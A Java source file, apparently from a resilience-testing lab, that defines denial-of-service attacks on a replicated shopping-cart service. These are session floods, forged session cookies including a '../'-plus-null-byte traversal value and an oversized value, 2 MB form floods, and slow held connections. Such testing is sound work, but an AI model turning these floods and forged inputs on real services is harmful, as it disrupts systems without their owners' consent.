package org.understudy.lab.attack;

import java.util.List;
import java.util.Locale;

/** The attacks on the shopping cart beside the service, whose sessions the session manager replicates. */
final class SessionAttacks {
  /** The path of the cart at each replica. */
  static final String SHOP = "/cart/shop";

  static final String FORM = "application/x-www-form-urlencoded";

  /** What a browser sends that puts a product into the cart. */
  static final String ADD = "add=TEAPOT";

  /** What the session manager keeps of a body at most, by default. */
  private static final int LARGEST = 2 << 20;

  /** As many at a time as once ended each Tomcat. */
  private static final int FORM_CONNECTIONS = 200;

  private SessionAttacks() {}

  static List<Attack> all(Target target, String run, double scale) {
    byte[] large = target.post(SHOP, FORM, Attacks.ascii(ADD + "&filler=" + "%C3%A9".repeat((LARGEST - ADD.length()) / 6 - 2)));
    return List.of(
        new RequestFlood("HTTP sessions", Attacks.scaled(40_000, scale), n -> add(target, "")),
        new RequestFlood("forged HTTP sessions", Attacks.scaled(8_000, scale),
            n -> add(target, "&understudy.request=" + run + n, "Cookie: JSESSIONID=" + session(n))),
        new RequestFlood("forms of 2 MB", Attacks.scaled(800, scale), n -> large).over(FORM_CONNECTIONS, Target::fromThreeAddresses),
        new HeldConnections("slow forms", Attacks.scaled(1_000, scale), Target::http,
            n -> Attacks.post(SHOP, FORM, framing(n) + ADD), (byte) 'a'));
  }

  private static byte[] add(Target target, String more, String... headers) {
    return target.post(SHOP, FORM, Attacks.ascii(ADD + more), headers);
  }

  /** One that nobody has, one that no session manager makes, one that is long. */
  private static String session(long number) {
    return switch ((int) (number % 3)) {
      case 0 -> String.format(Locale.ROOT, "%032X.1", number);
      case 1 -> "../" + number + "%00";
      default -> "A".repeat(2_000) + number;
    };
  }

  /** By length, and as one chunk. */
  private static String framing(long number) {
    return number % 2 == 0
        ? "Content-Length: " + LARGEST + "\r\n\r\n"
        : "Transfer-Encoding: chunked\r\n\r\n" + Integer.toHexString(LARGEST) + "\r\n";
  }
}
